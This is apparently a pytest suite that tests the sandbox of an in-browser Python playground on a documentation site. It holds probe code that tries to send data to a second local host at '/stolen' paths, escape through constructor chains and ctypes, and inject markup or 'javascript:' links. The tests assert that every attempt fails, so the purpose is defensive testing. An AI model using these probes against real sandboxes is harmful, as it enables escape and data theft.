"""What a reader's program, an address and a foreign page cannot do."""

import base64
import functools
import hashlib
import http.server
import re
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from markdown_it import MarkdownIt

from conftest import DOCS, NewPage, Project, box_of, parsed, wait_until
from test_playground import edit, open_editor, printed, replace, run_until, text_in

if TYPE_CHECKING:
    from playwright.sync_api import Browser


class Host:
    """A server of the site that notes what it is asked for."""

    def __init__(self, folder: Path) -> None:
        self.asked: list[str] = []
        asked = self.asked

        class Handler(http.server.SimpleHTTPRequestHandler):
            def handle(self) -> None:
                asked.append("a connection")
                super().handle()

            def log_message(self, *_: object) -> None:
                asked.append(self.requestline)

        handler = functools.partial(Handler, directory=str(folder))
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
        self.address = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def hosts(site: Path) -> Iterator[tuple[Host, Host]]:
    """The host of the site, and another one."""
    both = Host(site), Host(site)
    yield both
    for host in both:
        host.server.shutdown()
        host.server.server_close()


# -- A reader's program ----------------------------------------------------------------

# Prints each way that did not end in a plain error.
WAYS_OUT = """
import asyncio, http.client, importlib, socket, sys, urllib.request

OWN, OTHER = "{own}", "{other}"
host, port = OTHER.removeprefix("http://").split(":")
place = host, int(port)
PLAIN = ImportError, OSError, NameError, AttributeError, RuntimeError, TypeError


def attempt(name, way):
    try:
        found = way()
    except PLAIN:
        return
    except Exception as error:
        if "programs cannot run JavaScript" in str(error):
            return
        print("odd", name, type(error), error)
    else:
        print("open", name, found)


def stream():
    return asyncio.run(asyncio.wait_for(asyncio.open_connection(*place), 5))


def web_request():
    connection = http.client.HTTPConnection(*place, timeout=5)
    connection.request("GET", "/stolen")
    return connection.getresponse()


def udp():
    return socket.socket(type=socket.SOCK_DGRAM).sendto(b"stolen", place)


attempt("stream", stream)
attempt("http.client", web_request)
attempt("udp", udp)
attempt("socket", lambda: socket.create_connection(place, 5))
for base in (OWN, OTHER):
    attempt("urllib", lambda: urllib.request.urlopen(f"{{base}}/stolen", timeout=5))
    attempt("open_url", lambda: importlib.import_module("pyodide.http").open_url(
        f"{{base}}/stolen"))
    attempt("pyfetch", lambda: asyncio.run(
        importlib.import_module("pyodide.http").pyfetch(f"{{base}}/stolen")))
    attempt("run_js", lambda: importlib.import_module("pyodide.code").run_js(
        f"import('{{base}}/stolen.js')"))
for name in (
    "fetch XMLHttpRequest WebSocket WebSocketStream EventSource WebTransport Worker "
    "SharedWorker importScripts indexedDB caches BroadcastChannel navigator location "
    "postMessage addEventListener self globalThis eval Function setTimeout URL Blob "
    "Response MessageChannel Object"
).split():
    attempt(name, lambda: getattr(importlib.import_module("js"), name))
attempt("loadPackage", lambda: importlib.import_module("pyodide_js").loadPackage(
    f"{{OTHER}}/stolen.whl"))

# From a function of JavaScript that Python keeps, and from what can be made.
from pyodide import ffi, webloop
kept = webloop.scheduleCallback
for start in (kept, kept.bind, ffi.to_js([1]).constructor, ffi.create_proxy(print)):
    for text in ("return this", f"return import('{{OTHER}}/stolen.js')"):
        attempt("constructor", lambda: start.constructor.constructor(text)())
        attempt("__proto__", lambda: getattr(
            start.constructor, "__proto__").constructor(text)())
modules = [name for name in sys.modules if name.split(".")[0] in ("js", "pyodide_js")]
print("done", modules)
"""

# What a page can see of storage.
STORED = """async () => ({
    databases: await indexedDB.databases(),
    caches: await caches.keys(),
    local: {...localStorage},
    session: {...sessionStorage},
    cookie: document.cookie,
})"""


def test_program_reaches_neither_network_nor_storage(
    new_page: NewPage, hosts: tuple[Host, Host]
) -> None:
    own, other = hosts
    page = new_page("tutorial/one-task", base=own.address)
    box = box_of(page, "create_task")
    edit(box, WAYS_OUT.format(own=own.address, other=other.address))
    before = page.evaluate(STORED)  # the page itself keeps what its reader has typed
    run_until(box, "Ended")
    assert printed(box) == ["done []"]
    assert other.asked == []
    assert [path for path in own.asked if "stolen" in path] == []
    assert page.evaluate(STORED) == before
    # What it is told, in Python's words.
    source = "import socket\nsocket.create_connection(('127.0.0.1', 1))\n"
    replace(box.get_by_role("textbox"), source)
    run_until(box, "Host is unreachable")
    # The page may explain it before it has shown the last line.
    told = "OSError: [Errno 23] Host is unreachable"
    assert wait_until(lambda: printed(box)[-1:] == [told]), printed(box)


@pytest.mark.slow
def test_a_c_function_runs_no_javascript(
    new_page: NewPage, hosts: tuple[Host, Host]
) -> None:
    own, other = hosts
    page = new_page("tutorial/one-task", base=own.address)
    box = box_of(page, "create_task")
    source = "import ctypes\nrun = ctypes.CDLL(None).emscripten_run_script\n"
    edit(box, f"{source}run(b\"import('{other.address}/stolen.js')\")\n")
    run_until(box, "Python crashed: ReferenceError: eval is not defined")
    assert other.asked == []


# What can be reached after the global scope has been sealed, of what was in it before.
WALK = """
import { refuseText, seal } from "RUN";
const send = postMessage.bind(globalThis);
const isObject = (value) => Object(value) === value;
const read = (object, name) => {
  try { return object[name]; } catch { return undefined; }
};
const withPrototypes = (object) => {
  const all = [];
  for (; object; object = Object.getPrototypeOf(object)) all.push(object);
  return all;
};
const makers = [() => {}, async () => {}, function* () {}, async function* () {}];
const before = new Map();
for (const scope of withPrototypes(globalThis)) {
  if (scope === Object.prototype) break;
  for (const name of Reflect.ownKeys(scope)) {
    const value = read(globalThis, name);
    if (isObject(value) && value !== globalThis) before.set(value, String(name));
  }
}
for (const made of makers) before.set(made.constructor, "(of text)");
refuseText();
seal();
const seen = new Set();
const next = [globalThis, ...makers];
while (next.length) {
  const object = next.pop();
  if (!isObject(object) || seen.has(object)) continue;
  seen.add(object);
  for (const part of withPrototypes(object)) {
    next.push(part);
    for (const name of Reflect.ownKeys(part)) {
      const { value, get, set } = Object.getOwnPropertyDescriptor(part, name);
      next.push(value, get, set, read(object, name));
    }
  }
}
send([...before].filter(([value]) => seen.has(value)).map(([, name]) => name));
"""
# Runs a module in a worker, as a page runs Python; gives what it sends.
IN_WORKER = """code => new Promise((resolve, reject) => {
  const blob = new Blob([code], { type: "text/javascript" });
  const worker = new Worker(URL.createObjectURL(blob), { type: "module" });
  worker.onmessage = ({ data }) => resolve(data);
  worker.onerror = ({ message }) => reject(new Error(message));
})"""


def test_only_the_language_is_left(new_page: NewPage, address: str) -> None:
    page = new_page("tutorial/one-task")
    run = f"{address}/_static/playground/run.js"
    left = set(page.evaluate(IN_WORKER, WALK.replace("RUN", run)))
    script = DOCS / "_ext/example_output/playground/web/run.js"
    (names,) = re.findall("const KEPT = `(.*?)`", script.read_text("utf-8"), re.DOTALL)
    # These belong to what is kept, and reach nothing.
    harmless = {"EventTarget", "Performance", "Crypto", "SubtleCrypto"}
    assert "Uint8Array" in left
    assert left - set(names.split()) <= harmless, left - set(names.split())


# -- The policy of pages ---------------------------------------------------------------

# Each promise ends with what could not be done; nothing is deleted from this worker.
SECOND_WALL = """
const send = postMessage.bind(globalThis);
const other = "OTHER";
const refused = (way) => Promise.resolve().then(way).then(() => false, () => true);
const opens = (made) => new Promise((resolve, reject) => {
  made.onopen = made.onmessage = resolve;
  made.onerror = reject;
});
send(await Promise.all([
  () => eval("1"),
  () => (() => {}).constructor("return 1")(),
  () => fetch(`${other}/stolen`, { mode: "no-cors" }),
  () => import(`${other}/stolen.js`),
  () => import("data:text/javascript,1"),
  () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    Object.assign(request, { onload: resolve, onerror: reject });
    request.open("GET", `${other}/stolen`);
    request.send();
  }),
  () => opens(new WebSocket(other.replace("http", "ws"))),
  () => opens(new EventSource(`${other}/stolen`)),
  () => opens(new Worker("data:text/javascript,postMessage(1)")),
].map(refused)));
"""


def test_worker_has_the_policy_of_its_page(
    browser: "Browser", hosts: tuple[Host, Host]
) -> None:
    own, other = hosts
    page = browser.new_page()
    page.goto(f"{own.address}/tutorial/one-task.html")
    code = SECOND_WALL.replace("OTHER", other.address)
    assert page.evaluate(IN_WORKER, code) == [True] * 9
    page.context.close()
    assert other.asked == []


def test_pages_have_one_policy_that_allows_their_scripts(site: Path) -> None:
    pages = [parsed(path) for path in site.rglob("*.html")]
    assert len(pages) > 40
    for page in pages:
        (element,) = page.select("meta[http-equiv=Content-Security-Policy]")
        # Nothing that it is to hold for comes before it.
        assert not element.find_all_previous(["script", "link", "style"])
        for script in page.select("script:not([src]):not([type])"):
            digest = hashlib.sha256(script.text.encode()).digest()
            source = f"'sha256-{base64.b64encode(digest).decode()}'"
            assert source in re.split("[; ]+", str(element["content"]))


def test_documented_header_is_the_policy(site: Path) -> None:
    page = parsed(site / "index.html")
    (element,) = page.select("meta[http-equiv=Content-Security-Policy]")
    policy = str(element["content"]).replace(" file:", "")
    policy = re.sub("'sha256-.*?'", "'sha256-...'", policy)
    guide = (DOCS / "contributing.md").read_text("utf-8")
    _, _, chapter = guide.partition("## Publish the site")
    terms = re.findall("^`(.+)`\n: ", chapter.partition("\n## ")[0], re.MULTILINE)
    assert "; ".join(terms) == f"{policy}; frame-ancestors 'none'"


# -- The text of a program -------------------------------------------------------------

# Whatever it can choose is markup: its title, names, outputs.
MARKUP = '''"""<img src=title> [title](javascript:alert)"""
import asyncio


class Odd(Exception):
    pass


Odd.__name__ = Odd.__qualname__ = "<img src=error>"


async def work():
    raise Odd("<img src=message>")


work.__name__ = work.__qualname__ = "<img src=coroutine>"


async def main():
    task = asyncio.create_task(work(), name="~~~ <img src=task>")
    await asyncio.wait([task])
    print("```\\n<img src=output>", task.exception())
    print("<img src=quoted>`&lt;`")


asyncio.run(main())
'''


@pytest.mark.slow
def test_text_of_programs_is_text_in_markdown(
    project: Callable[[str], Project],
) -> None:
    basic = project("basic")
    conf = basic.read("conf.py")
    extensions = 'extensions = ["site_extensions.markdown_copies", '
    assert "extensions = [" in conf
    basic.write("conf.py", conf.replace("extensions = [", extensions))
    basic.write("examples/markup.py", MARKUP)
    done = basic.pytest("--example-record", "--example-timeline", "-k", "markup")
    assert done.status == 0, done.plain
    basic.write(
        "second.md",
        "# Second\n\n```{example} markup.py\n:timeline:\n```\n\n"
        "It prints {printed}`` <img src=quoted>`&lt;` ``.\n\n```{example-list}\n```\n",
    )
    done = basic.build()
    text = basic.read("_build/html/second.md")
    tokens = MarkdownIt().parse(text)
    tokens += [inner for token in tokens for inner in token.children or ()]
    kinds = {token.type for token in tokens}
    assert "fence" in kinds
    assert not kinds & {"html_block", "html_inline", "image"}
    links = [token.attrs["href"] for token in tokens if token.type == "link_open"]
    assert not any(str(link).startswith("javascript:") for link in links)
    plain = "".join(token.content for token in tokens if token.type == "text")
    for part in ("title", "error", "coroutine", "task", "message"):
        assert f"<img src={part}>" in plain, text
    code = [t.content.strip(" ") for t in tokens if t.type in ("fence", "code_inline")]
    assert "<img src=quoted>`&lt;`" in code
    assert any("```\n<img src=output> <img src=message>" in part for part in code)


# -- An address ------------------------------------------------------------------------

# A program that no page has, in every place of an address where one could be.
FOREIGN = "print(666)"
PLACES = ("code", "program", "source", "src", "example", "file", "edit", "run", "q")


@pytest.mark.slow
def test_address_puts_no_program_into_an_editor(new_page: NewPage) -> None:
    fields = "&".join(
        f"{name}={text}"
        for name in PLACES
        for text in (FOREIGN, base64.b64encode(FOREIGN.encode()).decode())
    )
    query = f"?{fields}#{fields}"
    page = new_page("tutorial/one-task", query=query)
    page.evaluate(
        """([names, text]) => {
            window.name = text;
            history.replaceState({ code: text }, "");
            for (const name of [...names, location.pathname, "create_task.py"]) {
                sessionStorage.setItem(name, text);
                localStorage.setItem(name, text);
            }
        }""",
        [[*PLACES, "tutorial/create_task.py"], FOREIGN],
    )
    page.reload()
    box = box_of(page, "create_task")
    # Nothing runs by itself, and what runs then is the program of the page.
    assert page.locator(".example-live").count() == 0
    assert FOREIGN not in page.locator("article").inner_text()
    run_until(box, "main coroutine started")
    assert FOREIGN not in text_in(open_editor(box))


# What the scripts of pages read of an address, or of what an address can leave behind.
OUTSIDE = re.compile(
    r"location\.\w+|URLSearchParams|\w+Storage|history\.state|window\.name|referrer"
    r'|"(?:message|hashchange|popstate|storage)"'
)


def test_scripts_read_nothing_of_an_address_that_could_be_a_program() -> None:
    """Whoever adds something shows how readers see the program before it can run."""
    read = {
        path.name: sorted(set(OUTSIDE.findall(path.read_text("utf-8"))))
        for path in (
            *(DOCS / "_static").glob("*.js"),
            *(DOCS / "_ext/example_output/static").rglob("*.js"),
        )
    }
    assert {name: found for name, found in read.items() if found} == {
        # Whether there is a server; and whether the reader has changed a program of
        # this page, which is shown in place of the program, and marked.
        "example_run.js": ["location.protocol", "sessionStorage"],
        "program.js": ["sessionStorage"],
        # A program that came with a link: it is in the editor, beside a note that says
        # so, and runs when the reader presses Run.
        "lab.js": ['"hashchange"', "location.hash", "location.href"],
        "share.js": ["location.href"],
        # Whether the reader has solved the exercise of this page, and of the others.
        "practice.js": ["localStorage", "location.pathname"],
        "judge.js": ["localStorage", "location.pathname"],
        "example_output.js": ["localStorage"],
        # Which Python the reader has chosen; a link to a part that it leaves out.
        "choice.js": ['"hashchange"', '"storage"', "localStorage", "location.hash"],
        # Which answer the reader of this page has given, and whether it is solved.
        "answers.js": ["localStorage", "location.pathname"],
        # The id of a part of the page, which a report of a problem names; and links.
        "site.js": [
            '"hashchange"',
            "localStorage",  # whether single keys are shortcuts
            "location.assign",
            "location.hash",
            "location.protocol",
        ],
    }
